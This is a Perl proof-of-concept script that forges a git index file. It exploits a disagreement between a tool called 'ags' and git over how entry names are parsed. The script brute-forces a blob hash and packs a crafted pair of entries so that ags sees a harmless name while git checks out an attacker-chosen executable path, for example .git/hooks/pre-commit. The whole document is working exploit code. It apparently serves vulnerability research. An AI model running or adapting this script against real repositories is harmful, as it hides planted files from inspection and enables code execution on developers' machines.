#!/usr/bin/perl
# Forge .git/index (v2) so that ags's index parser and git disagree about the entries.
# git takes an entry's name length from the 12-bit field of its flags and copies that many
# bytes; ags reads the name up to the first NUL. A pair of entries is inserted among the real
# ones (taken from `git ls-files -s`): ags reads "FIRST" and "<14 bytes of an object name>
# <flags>EVIL"; git reads "FIRST\0\0..." (18+ bytes) and EVIL, e.g. .git/hooks/pre-commit.
# usage: forge.pl EVIL FIRST CONTENT   (run at the top of a worktree; writes .git/index)
use strict; use warnings; use Digest::SHA qw(sha1);
my ($evil, $first, $content) = @ARGV;
my $L = length $evil; die "evil too long" if $L > 0xff;
# a blob for EVIL whose name fits: byte 4 without the top two bits, bytes 6..19 no NUL and no '/'
my ($blob, $i);
for $i (1..1000) {
  open my $h, "|-", "git hash-object -w --stdin > .forge-oid" or die; print $h "$content # $i\n"; close $h;
  open my $r, "<", ".forge-oid"; my $hex = <$r>; chomp $hex; close $r; unlink ".forge-oid";
  my $b = pack "H*", $hex;
  if ((ord(substr($b,4,1)) & 0xC0) == 0 && substr($b,6,14) !~ /[\x00\/]/) { $blob = $b; last }
}
die "no blob" unless $blob;
my @real = map { chomp; /^(\d+) (\w+) (\d)\t(.*)$/ ? [oct($1), pack("H*",$2), $3, $4] : () } `git ls-files -s`;
sub stat_ { my ($mode) = @_; pack "N10", 0,0,0,0,0,0,$mode,0,0,0 }
sub plain { my ($e) = @_; my $n = $e->[3];
  my $s = stat_($e->[0]) . $e->[1] . pack("n", ($e->[2] << 12) | (length($n) < 0xfff ? length($n) : 0xfff)) . $n;
  $s . ("\0" x (8 - (length($s) % 8))) }
my $n = length $first;
my $Sa = int((63 + $n + 7) / 8) * 8;                     # ags's size of entry 1
my $L1; for my $l (1..0xffe) { if (int((70 + $l) / 8) * 8 == $Sa + 16) { $L1 = $l; last } }
my $e1 = stat_(0100644) . $real[0][1] . pack("n", $L1) . $first . "\0";
$e1 .= "\0" x ($Sa - length $e1);
$e1 .= "\0" x 16;                                        # git's name tail of entry 1
my $g2 = stat_(0100755) . $blob . pack("n", 0x8000 | $L) . $evil;
$g2 .= "\0" x (int((70 + $L) / 8) * 8 - length $g2);
# the ags-side check: ags's entry 2 starts 16 bytes before git's and ends where git's ends
my $agsname = substr($e1 . $g2, $Sa + 62); $agsname =~ s/\0.*//s;
my $agsend = $Sa + int((62 + length($agsname) + 1 + 7) / 8) * 8;
die "misaligned $agsend" unless $agsend == length($e1 . $g2);
my $body = ""; my $placed = 0; my $count = 0;
for my $e (@real) {
  if (!$placed && $e->[3] gt $evil) { $body .= $e1 . $g2; $placed = 1; $count += 2 }
  $body .= plain($e); $count++;
}
$body .= $e1 . $g2, $count += 2 unless $placed;
my $idx = "DIRC" . pack("NN", 2, $count) . $body;
$idx .= sha1($idx);
open my $o, ">", ".git/index" or die; binmode $o; print $o $idx; close $o;
(my $shown = $agsname) =~ s/([^\x20-\x7e])/sprintf("\\x%02x",ord $1)/ge;
print "ags reads: '$first' and '$shown'\n";
